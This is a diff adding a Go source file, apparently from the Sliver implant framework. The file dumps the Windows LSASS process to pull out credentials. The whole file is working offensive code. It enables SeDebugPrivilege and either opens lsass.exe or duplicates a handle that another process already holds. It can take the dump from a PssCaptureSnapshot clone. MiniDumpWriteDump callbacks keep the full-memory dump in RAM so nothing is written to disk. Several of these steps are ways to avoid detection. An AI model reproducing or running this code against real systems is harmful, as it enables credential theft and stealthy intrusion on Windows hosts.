@@ -0,0 +1,271 @@
+package lsass
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"sync"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/priv"
+	"github.com/bishopfox/sliver/sliver/ps"
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// MethodOpen - Open lsass ourselves
+	MethodOpen = "open"
+	// MethodDuplicate - Borrow a handle some other process already holds
+	MethodDuplicate = "duplicate"
+
+	dumpAccess = windows.PROCESS_QUERY_INFORMATION | windows.PROCESS_VM_READ
+)
+
+var (
+	// The callback is created once, Go can only hand out a limited number
+	dumpCallbackOnce sync.Once
+	dumpCallback     uintptr
+
+	dumpMutex = &sync.Mutex{}
+	dumpBuf   []byte
+)
+
+// Dump - Minidump lsass into memory, nothing is written to disk. With snapshot
+// the dump is taken from a clone of lsass rather than lsass itself.
+func Dump(method string, snapshot bool) ([]byte, error) {
+	if err := priv.SePrivEnable("SeDebugPrivilege"); err != nil {
+		// {{if .Debug}}
+		log.Printf("Failed to enable SeDebugPrivilege: %v", err)
+		// {{end}}
+	}
+	pid, err := lsassPid()
+	if err != nil {
+		return nil, err
+	}
+
+	access := uint32(dumpAccess)
+	if snapshot {
+		access |= windows.PROCESS_CREATE_PROCESS
+	}
+	var handle windows.Handle
+	switch method {
+	case MethodDuplicate:
+		handle, err = duplicateHandle(pid, access)
+	case MethodOpen, "":
+		handle, err = windows.OpenProcess(access, false, pid)
+	default:
+		return nil, fmt.Errorf("unknown method '%s'", method)
+	}
+	if err != nil {
+		return nil, err
+	}
+	defer windows.CloseHandle(handle)
+
+	if !snapshot {
+		return writeMinidump(handle, pid, false)
+	}
+	var clone windows.Handle
+	err = syscalls.PssCaptureSnapshot(handle, syscalls.PSS_CAPTURE_VA_CLONE|syscalls.PSS_CAPTURE_THREADS, 0, &clone)
+	if err != nil {
+		return nil, fmt.Errorf("snapshot failed: %v", err)
+	}
+	defer syscalls.PssFreeSnapshot(windows.CurrentProcess(), clone)
+	return writeMinidump(clone, pid, true)
+}
+
+func lsassPid() (uint32, error) {
+	procs, err := ps.Processes()
+	if err != nil {
+		return 0, err
+	}
+	for _, proc := range procs {
+		if strings.EqualFold(proc.Executable(), "lsass.exe") {
+			return uint32(proc.Pid()), nil
+		}
+	}
+	return 0, errors.New("lsass.exe is not running")
+}
+
+// duplicateHandle - Find a process handle to lsass held by another process
+// with at least the access we need, and duplicate it into ours
+func duplicateHandle(pid uint32, access uint32) (windows.Handle, error) {
+	// Hold a handle to ourselves while the handle table is captured, it tells
+	// us the object type index of processes which isn't fixed
+	self := windows.GetCurrentProcessId()
+	selfHandle, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, self)
+	if err != nil {
+		return 0, err
+	}
+	handles, err := systemHandles()
+	windows.CloseHandle(selfHandle)
+	if err != nil {
+		return 0, err
+	}
+	processType, ok := processTypeIndex(handles, self, selfHandle)
+	if !ok {
+		return 0, errors.New("could not find the process object type")
+	}
+	owners := map[uintptr]windows.Handle{}
+	defer func() {
+		for _, owner := range owners {
+			if owner != 0 {
+				windows.CloseHandle(owner)
+			}
+		}
+	}()
+	for _, entry := range handles {
+		if entry.ObjectTypeIndex != processType || entry.GrantedAccess&access != access {
+			continue
+		}
+		if entry.UniqueProcessID <= 4 || entry.UniqueProcessID == uintptr(self) || entry.UniqueProcessID == uintptr(pid) {
+			continue
+		}
+		owner, ok := owners[entry.UniqueProcessID]
+		if !ok {
+			owner, _ = windows.OpenProcess(windows.PROCESS_DUP_HANDLE, false, uint32(entry.UniqueProcessID))
+			owners[entry.UniqueProcessID] = owner
+		}
+		if owner == 0 {
+			continue
+		}
+		var handle windows.Handle
+		err = windows.DuplicateHandle(owner, windows.Handle(entry.HandleValue), windows.CurrentProcess(), &handle, 0, false, windows.DUPLICATE_SAME_ACCESS)
+		if err != nil {
+			continue
+		}
+		if target, err := windows.GetProcessId(handle); err == nil && target == pid {
+			// {{if .Debug}}
+			log.Printf("Duplicated lsass handle 0x%x from pid %d", entry.HandleValue, entry.UniqueProcessID)
+			// {{end}}
+			return handle, nil
+		}
+		windows.CloseHandle(handle)
+	}
+	return 0, errors.New("no process holds a usable handle to lsass")
+}
+
+func processTypeIndex(handles []syscalls.SystemHandleTableEntryInfoEx, self uint32, selfHandle windows.Handle) (uint16, bool) {
+	for _, entry := range handles {
+		if entry.UniqueProcessID == uintptr(self) && windows.Handle(entry.HandleValue) == selfHandle {
+			return entry.ObjectTypeIndex, true
+		}
+	}
+	return 0, false
+}
+
+func systemHandles() ([]syscalls.SystemHandleTableEntryInfoEx, error) {
+	size := uint32(1024 * 1024)
+	for {
+		buf := make([]byte, size)
+		var retLen uint32
+		status := syscalls.NtQuerySystemInformation(syscalls.SystemExtendedHandleInformation, &buf[0], size, &retLen)
+		if status == syscalls.STATUS_INFO_LENGTH_MISMATCH {
+			size = retLen + 64*1024
+			if size < uint32(len(buf))*2 {
+				size = uint32(len(buf)) * 2
+			}
+			continue
+		}
+		if status != 0 {
+			return nil, fmt.Errorf("NtQuerySystemInformation failed 0x%x", status)
+		}
+		count := *(*uintptr)(unsafe.Pointer(&buf[0]))
+		entrySize := unsafe.Sizeof(syscalls.SystemHandleTableEntryInfoEx{})
+		headerSize := 2 * unsafe.Sizeof(uintptr(0))
+		if uintptr(len(buf)) < headerSize+count*entrySize {
+			return nil, errors.New("truncated handle information")
+		}
+		handles := make([]syscalls.SystemHandleTableEntryInfoEx, count)
+		for index := range handles {
+			handles[index] = *(*syscalls.SystemHandleTableEntryInfoEx)(unsafe.Pointer(&buf[headerSize+uintptr(index)*entrySize]))
+		}
+		return handles, nil
+	}
+}
+
+// writeMinidump - MiniDumpWriteDump with IO callbacks so the dump is written to
+// memory instead of a file
+func writeMinidump(handle windows.Handle, pid uint32, snapshot bool) ([]byte, error) {
+	dumpCallbackOnce.Do(func() {
+		dumpCallback = windows.NewCallback(minidumpCallback)
+	})
+	dumpMutex.Lock()
+	defer dumpMutex.Unlock()
+	dumpBuf = make([]byte, 0, 64*1024*1024)
+	defer func() {
+		dumpBuf = nil
+	}()
+
+	var isSnapshot uintptr
+	if snapshot {
+		isSnapshot = 1
+	}
+	info := &syscalls.MinidumpCallbackInformation{
+		CallbackRoutine: dumpCallback,
+		CallbackParam:   isSnapshot,
+	}
+	err := syscalls.MiniDumpWriteDump(handle, pid, 0, syscalls.MiniDumpWithFullMemory, 0, 0, uintptr(unsafe.Pointer(info)))
+	if err != nil {
+		return nil, err
+	}
+	return dumpBuf, nil
+}
+
+// minidumpCallback - MINIDUMP_CALLBACK_ROUTINE, the dbghelp structures are
+// 4-byte packed so the fields are read by offset
+func minidumpCallback(param uintptr, input uintptr, output uintptr) uintptr {
+	ptrSize := unsafe.Sizeof(uintptr(0))
+	callbackType := *(*uint32)(unsafe.Pointer(input + 4 + ptrSize))
+	status := (*int32)(unsafe.Pointer(output))
+	switch callbackType {
+	case syscalls.IsProcessSnapshotCallback:
+		*status = 0
+		if param != 0 {
+			*status = 1 // S_FALSE, the handle is a snapshot
+		}
+	case syscalls.IoStartCallback:
+		*status = 1 // S_FALSE, we do the writing
+	case syscalls.IoWriteAllCallback:
+		io := input + 8 + ptrSize
+		offset := *(*uint64)(unsafe.Pointer(io + ptrSize))
+		buffer := *(*uintptr)(unsafe.Pointer(io + ptrSize + 8))
+		size := *(*uint32)(unsafe.Pointer(io + 2*ptrSize + 8))
+		end := offset + uint64(size)
+		if uint64(cap(dumpBuf)) < end {
+			grown := make([]byte, len(dumpBuf), end*2)
+			copy(grown, dumpBuf)
+			dumpBuf = grown
+		}
+		if uint64(len(dumpBuf)) < end {
+			dumpBuf = dumpBuf[:end]
+		}
+		copy(dumpBuf[offset:end], (*[1 << 30]byte)(unsafe.Pointer(buffer))[:size:size])
+		*status = 0
+	case syscalls.IoFinishCallback:
+		*status = 0
+	}
+	return 1
+}